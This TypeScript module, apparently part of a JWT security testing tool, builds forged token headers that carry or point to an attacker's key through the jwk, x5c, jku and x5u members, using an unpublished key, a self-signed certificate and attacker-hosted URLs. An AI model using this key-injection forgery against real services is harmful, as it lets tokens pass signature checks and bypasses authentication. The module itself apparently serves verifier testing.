// Attack: a header that brings its own key, or says where one is to be found (RFC 7515 §4.1.2 to §4.1.6).
import { selfSigned } from "./certificate.js";
import type { JoseHeader } from "./compact.js";
import { type SigningKey, unpublishedKey } from "./keys.js";

/** Where the attacker's keys are, below {@link TokenPlan.attacker}. */
export const ATTACKER_PATHS = {
	keys: "/keys",
	certificate: "/certificate.pem",
	discovery: "/.well-known/openid-configuration",
} as const;

/** The header members that bring a key: what each holds, of the attacker's key. */
const BRINGING = {
	jwk: ({ jwk }) => jwk,
	x5c: async (key) => [(await selfSigned(key)).der.toString("base64")],
	jku: (_, attacker) => attacker + ATTACKER_PATHS.keys,
	x5u: (_, attacker) => attacker + ATTACKER_PATHS.certificate,
} as const satisfies Record<
	string,
	(key: SigningKey, attacker: string) => unknown
>;

export type BroughtKey = keyof typeof BRINGING;

/** The members by which a header can bring the key. */
export const BROUGHT_KEYS = Object.keys(BRINGING) as [
	BroughtKey,
	...BroughtKey[],
];

/** The member, as a header that is added to. */
export const bringKey = async (
	member: BroughtKey,
	attacker: string,
): Promise<JoseHeader> => ({
	[member]: await BRINGING[member](await unpublishedKey(), attacker),
});
